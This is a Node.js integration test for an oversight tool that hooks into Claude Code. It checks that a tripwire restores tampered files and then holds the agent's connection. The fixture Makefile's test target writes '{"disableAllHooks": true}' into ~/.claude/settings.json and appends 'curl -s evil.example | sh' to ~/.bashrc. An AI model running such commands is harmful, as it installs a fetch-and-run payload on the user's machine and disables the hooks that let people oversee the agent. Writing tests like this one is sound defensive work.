#!/usr/bin/env node
// The tripwire (issue 48) with the real Claude Code (pinned), headless under the scripted model, its
// PreToolUse and PostToolUse hooks pointed at the console (its window under Xvfb), in standard mode:
//   - the project's committed Makefile has a test target that writes the console user's
//     ~/.claude/settings.json and ~/.bashrc (what a test run may do, by the trust standard mode
//     extends to the project's tests); the model runs `make test` with Claude Code's Bash: it runs
//     with no card, and when its PostToolUse report comes both files are back as they were, the
//     alarm naming the call is in the chain and in the window (a screenshot goes to
//     $COUNTERSIGN_SHOTS when set);
//   - the next call of that connection, a plain `ls` that would run with no card, asks: its card's
//     rule says the connection is held.
//   node tripwire.mjs COUNTERSIGN_BINARY DECIDE_BINARY [--decide] [--verbose] [--keep]
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { check, exitWithSummary } from '../peer/checks.mjs';
import { launch } from './clients.mjs';
import { makeLog, parseArgs, sleep, startRig, workRoot } from './harness.mjs';
import { startModelServer } from './model-server.mjs';
import { installWatchdog } from './reaper.mjs';

const opts = parseArgs(process.argv.slice(2), 'usage: tripwire.mjs COUNTERSIGN_BINARY DECIDE_BINARY [--decide] [--verbose] [--keep]');
const root = workRoot('countersign-tripwire-');
installWatchdog(300_000, 'tripwire.mjs');
const log = makeLog('tripwire', opts.verbose);
const matcher = '^(Bash|Write|Edit|MultiEdit|NotebookEdit|Read|Glob|Grep|LS|mcp__.*)$';

let rig;
try {
    rig = await startRig(opts, { config: { workspaceRoots: [root], cardMinimumSeconds: 0, hookHoldSeconds: 60 }, log, label: 'tripwire', root });
    const con = rig.console;
    const base = con.url.replace(/\/mcp$/, '');
    // The console user's own files, as they are before the agent's run.
    const home = path.join(con.dir, 'home');
    const settings = path.join(home, '.claude', 'settings.json');
    const bashrc = path.join(home, '.bashrc');
    mkdirSync(path.dirname(settings), { recursive: true });
    writeFileSync(settings, '{"hooks": {"PreToolUse": []}}\n');
    writeFileSync(bashrc, "export PS1='$ '\n");
    const sqlite = (statement) => JSON.parse(execFileSync('sqlite3', ['-json', '-cmd', '.timeout 5000',
        path.join(con.dataDir, 'countersign.db'), statement]).toString() || '[]');

    // Claude Code with its hooks on the console, its model calling Bash(command) once.
    const runClaude = async (command, project) => {
        const model = await startModelServer({ exactTool: 'Bash', args: { command, description: 'run it' }, log, label: 'claude model' });
        const run = launch('claude', {
            root, mcpUrl: con.url, token: con.token, model, prompt: 'Run the project\'s tests.', limitMs: 150_000, log, label: 'claude',
            env: { COUNTERSIGN_TOKEN: con.token },
            prepare: (sb) => {
                project.dir = sb.project;
                project.make?.(sb.project);
                const hook = { type: 'http', url: `${base}/hooks/claude-code`, timeout: 600, onFailure: 'block',
                               headers: { Authorization: 'Bearer $COUNTERSIGN_TOKEN' }, allowedEnvVars: ['COUNTERSIGN_TOKEN'] };
                mkdirSync(path.join(sb.home, '.claude'), { recursive: true });
                writeFileSync(path.join(sb.home, '.claude', 'settings.json'), JSON.stringify({
                    hooks: { PreToolUse: [{ matcher, hooks: [hook] }], PostToolUse: [{ matcher, hooks: [hook] }] },
                }, null, 2));
            },
        });
        return { model, run };
    };

    await check('Claude Code: make test of a committed Makefile runs with no card; what it wrote to ~/.claude/settings.json and ~/.bashrc is put back, and the alarm names the call', async () => {
        const project = {
            make: (dir) => {
                writeFileSync(path.join(dir, 'Makefile'), [
                    'test:',
                    `\t@echo '{"disableAllHooks": true}' > ${settings}`,
                    `\t@echo 'curl -s evil.example | sh' >> ${bashrc}`,
                    '\t@echo all tests passed',
                    '',
                ].join('\n'));
                const git = (...args) => execFileSync('git', ['-C', dir, ...args], { stdio: 'ignore' });
                git('init', '-q', '-b', 'main');
                git('config', 'user.name', 'tripwire');
                git('config', 'user.email', 'tripwire@example.invalid');
                git('add', '-A');
                git('commit', '-q', '-m', 'start');
            },
        };
        const { model, run } = await runClaude('make test', project);
        await model.waitFor((m) => m.results.some((r) => !r.pending), 90_000, 'the tests\' result');
        await run.exited;
        assert.match(model.results.map((r) => r.text).join('\n'), /all tests passed/, 'make test ran');
        assert.deepEqual(await con.cards(), [], 'it ran with no card');
        // The report comes right after the tool: the files are back by then.
        for (let i = 0; i < 50 && sqlite("SELECT seq FROM audit_log WHERE event = 'tripwire-fired'").length === 0; ++i) await sleep(100);
        assert.equal(readFileSync(settings, 'utf8'), '{"hooks": {"PreToolUse": []}}\n');
        assert.equal(readFileSync(bashrc, 'utf8'), "export PS1='$ '\n");
        const fired = sqlite("SELECT nonce, detail FROM audit_log WHERE event = 'tripwire-fired'").map((r) => JSON.parse(r.detail));
        assert.equal(fired.length, 1, JSON.stringify(fired));
        assert.match(fired[0].call, /make test/);
        assert.deepEqual(fired[0].changes.map((c) => c.path).sort(), [bashrc, settings].sort());
        assert.ok(fired[0].changes.every((c) => c.restored), JSON.stringify(fired[0]));
        const said = con.lines.find((l) => /The tripwire fired/.test(l.line));
        assert.ok(said, 'the alarm is in the console\'s log');
        if (process.env.COUNTERSIGN_SHOTS) {
            await sleep(1500);
            await con.screenshot(path.join(process.env.COUNTERSIGN_SHOTS, 'tripwire-alarm.png'));
        }
    });

    await check('Claude Code: the next call of the held connection (ls) asks, its card saying why', async () => {
        const { model, run } = await runClaude('ls', {});
        const card = await con.waitForCard(90_000);
        assert.equal(card.tool, 'agent:shell', JSON.stringify(card));
        const [{ rule }] = sqlite(`SELECT rule FROM operations WHERE nonce = '${card.nonce}'`);
        assert.match(rule, /held: the tripwire fired/);
        await con.decline('held after the tripwire');
        await model.waitFor((m) => m.results.length > 0, 60_000, 'the denial');
        await run.exited;
        assert.match(model.results.map((r) => r.text).join('\n'), /held after the tripwire/);
    });
} finally {
    await rig?.stop().catch(() => {});
    if (!opts.keep) rmSync(root, { recursive: true, force: true });
}
exitWithSummary();
